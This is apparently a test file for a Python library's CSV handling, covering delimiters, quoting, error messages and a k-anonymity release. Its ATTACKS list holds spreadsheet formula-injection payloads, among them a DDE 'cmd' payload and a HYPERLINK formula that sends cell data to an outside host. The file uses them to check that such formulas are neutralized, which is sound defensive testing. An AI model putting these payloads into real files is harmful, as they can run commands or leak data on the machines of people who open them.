"""CSV: headers, delimiters, missing values, quotes, files that spreadsheets may open."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import hierdata
from hierdata.documents.document import Document, Numeral
from hierdata.documents.formats import Layout
from hierdata.documents.formats.csv import Csv
from hierdata.ground.errors import InputError, PolicyError, VerificationError

cells = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=6)
attacks = st.builds(
    lambda marks, begin, rest: marks + begin + rest,
    st.text("'", max_size=3),
    st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]),
    st.text("1.e+-=A'\"", max_size=4),
)
delimiters = st.sampled_from([None, ",", ";", "\t", "|", "^", " "])


def read(data: str | bytes, chosen: Csv | None = None) -> list[Document]:
    chosen = chosen or Csv()
    encoded = data.encode() if isinstance(data, str) else data
    layout = chosen.layout(io.BytesIO(encoded))
    return list(chosen.read(io.BytesIO(encoded), layout))


def written(documents: list[Document], layout: Layout, chosen: Csv | None = None) -> bytes:
    stream = io.BytesIO()
    (chosen or Csv()).write(iter(documents), stream, layout)
    return stream.getvalue()


@given(
    st.lists(cells | attacks, min_size=1, max_size=4, unique=True).filter(all),
    st.data(),
    delimiters,
    st.sampled_from(["\n", "\r\n"]),
    st.booleans(),
)
def test_what_is_written_is_read_back(
    columns: list[str], data: st.DataObject, delimiter: str | None, terminator: str, for_people: bool
) -> None:
    rows = st.dictionaries(st.sampled_from(columns), (cells | attacks).filter(bool))
    documents = data.draw(st.lists(rows, max_size=4))
    layout = Layout(columns=tuple(columns), delimiter=delimiter or ",", terminator=terminator)
    chosen = Csv(delimiter or ",", for_people)
    text = written(documents, layout, chosen)
    found = chosen.layout(io.BytesIO(text))
    assert found.columns == layout.columns
    assert found.terminator == terminator
    assert list(chosen.read(io.BytesIO(text), found)) == documents
    assert written(documents, found, chosen) == text


@given(st.lists(st.sampled_from(["a", "b;c", "d|e", "f,g", "h\ti", 'j"k', "l\nm"]), min_size=2, unique=True))
def test_the_delimiter_is_found_in_a_header_that_we_wrote(columns: list[str]) -> None:
    for delimiter in ",;\t|":
        text = written([], Layout(columns=tuple(columns), delimiter=delimiter))
        found = Csv().layout(io.BytesIO(text))
        assert (found.delimiter, found.columns) == (delimiter, tuple(columns))


@given(st.lists(st.lists(cells, min_size=2, max_size=2), max_size=5))
def test_cells_are_those_of_the_csv_module(rows: list[list[str]]) -> None:
    text = io.StringIO(newline="")
    csv.writer(text).writerows([["a", "b"], *rows])
    expected = [{k: v for k, v in zip("ab", row, strict=True) if v} for row in rows]
    assert read(text.getvalue()) == expected


def test_empty_cells_empty_lines_marks_and_line_ends() -> None:
    data = b'\xef\xbb\xbfa,b\r\n1,\r\n\r\n,"x\r\ny"\r\n"",""\r\n" ",3'
    assert read(data) == [{"a": "1"}, {"b": "x\r\ny"}, {}, {"a": " ", "b": "3"}]
    assert Csv().layout(io.BytesIO(data)).terminator == "\r\n"
    assert read("a\n1\n\n2\n") == [{"a": "1"}, {"a": "2"}]
    assert read(written([{}, {"a": "1"}], Layout(columns=("a",)))) == [{}, {"a": "1"}]


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_the_delimiter_is_the_one_that_cuts_the_header_into_most_columns(delimiter: str) -> None:
    header = delimiter.join(["name", '"birth, place; here"', "a|b" if delimiter != "|" else "a;b", "x"])
    assert Csv().layout(io.BytesIO(header.encode())).delimiter == delimiter


def test_a_stated_delimiter() -> None:
    assert read("a^b\n1,2^3\n", Csv("^")) == [{"a": "1,2", "b": "3"}]
    assert read("a;b,c\n1;2\n", Csv(";")) == [{"a": "1", "b,c": "2"}]
    assert read("a\n1\n", Csv(";")) == [{"a": "1"}]
    for stated in (";", "^"):
        with pytest.raises(InputError, match="',' does"):
            read("a,b\n1,2\n", Csv(stated))


def test_a_quoted_name_may_go_over_lines() -> None:
    assert read('"a\nb",c\n1,2\n') == [{"a\nb": "1", "c": "2"}]


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("a,,b\n", "column 2 has no name"),
        ("a,b,a\n", "columns 1 and 3"),
        ("a,b\n1\n", "1 cells, but the header has 2"),
        ('a,b\n1,"2\n', "does not end"),
        ('a,b\n1,"2"x\n', "quote"),
        ("a,b\n1,2\r3,4\n", "carriage return"),
        ("a,b\n1,\0\n", "NUL"),
        ("a,b\n1," + "x" * (csv.field_size_limit() + 1), "characters"),
        ("\n\n", "no header"),
    ],
)
def test_the_error_says_what_is_wrong(name: str, words: str) -> None:
    with pytest.raises(InputError, match=words):
        read(name)


def test_values_of_other_formats_are_written_by_their_spelling() -> None:
    columns = ("a", "b", "c", "d", "e")
    document: Document = {"a": 10**30, "b": Decimal("1.50"), "c": Numeral("1e2"), "d": True, "e": None}
    assert (
        written([document], Layout(columns=columns)).decode().splitlines()[1] == f"1{'0' * 30},1.50,1e2,true,"
    )
    with pytest.raises(InputError, match="a single value"):
        written([{"a": ["marker-7319"]}], Layout(columns=columns))
    with pytest.raises(InputError, match="not a column") as caught:
        written([{"marker-7319": "x"}], Layout(columns=columns))
    assert "7319" not in str(caught.value)
    with pytest.raises(PolicyError, match="`records`"):
        Csv().layout(io.BytesIO(b"a\n"), ("a",))


ATTACKS = [
    "=1+1",
    '=HYPERLINK("http://example.org?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1",
    "-",
    "+",
    "=,=",
    "'=1",
    "''@x",
]


@pytest.mark.parametrize("cell", ATTACKS)
def test_formulas_are_neutralized_in_files_for_people(cell: str) -> None:
    for delimiter in ",;\t|":
        text = written(
            [{"a": cell, "b": cell}], Layout(columns=("a", "b"), delimiter=delimiter), Csv(delimiter, True)
        )
        shown = list(csv.reader(io.StringIO(text.decode(), newline=""), delimiter=delimiter))[1]
        assert shown == [f"'{cell}"] * 2
        assert read(text, Csv(delimiter, True)) == [{"a": cell, "b": cell}]


def test_numbers_and_other_text_stay_as_they_are() -> None:
    plain = [
        "-5",
        "+5",
        "-0.5",
        "1e-3",
        "-.5",
        "'-5",
        "[1985, 1989]",
        "*",
        "481**",
        "'",
        "a=b",
        "'tis",
        " =1",
    ]
    documents: list[Document] = [{"a": cell} for cell in plain]
    layout = Layout(columns=("a",))
    assert written(documents, layout, Csv(for_people=True)) == written(documents, layout)
    assert read(written(documents, layout), Csv(for_people=True)) == documents


def test_the_header_is_text_too() -> None:
    text = written([{"=a": "1"}], Layout(columns=("=a", "b")), Csv(for_people=True))
    assert text.splitlines()[0] == b"'=a,b"
    assert read(text, Csv(for_people=True)) == [{"=a": "1"}]


def test_what_no_file_for_people_holds_is_not_taken_for_one() -> None:
    """Otherwise '=x and =x, which everybody can tell apart, would be judged as equal."""
    for data in ("a\n'=x\n=x\n", "=a\n1\n"):
        with pytest.raises(VerificationError, match="formula"):
            read(data, Csv(for_people=True))


def test_one_column_is_read_as_it_was_written(tmp_path: Path) -> None:
    """Of several columns cut by semicolons one is published, and its intervals hold commas."""
    (tmp_path / "people.csv").write_text("id;age\n" + "".join(f"{one};{20 + one}\n" for one in range(30)))
    interval = {"steps": [1, 5, 20], "domain": [0, 99]}
    fields = {"id": {"role": "identifier"}, "age": {"role": "quasi", "interval": interval}}
    policy = {"version": 1, "models": [{"kind": "k-anonymity", "k": 5}], "fields": fields}
    release = hierdata.anonymize(tmp_path / "people.csv", policy)
    assert hierdata.verify(release.folder, policy).passed
    assert '"[20, ' in (release.folder / "public" / "records.csv").read_text("utf-8")
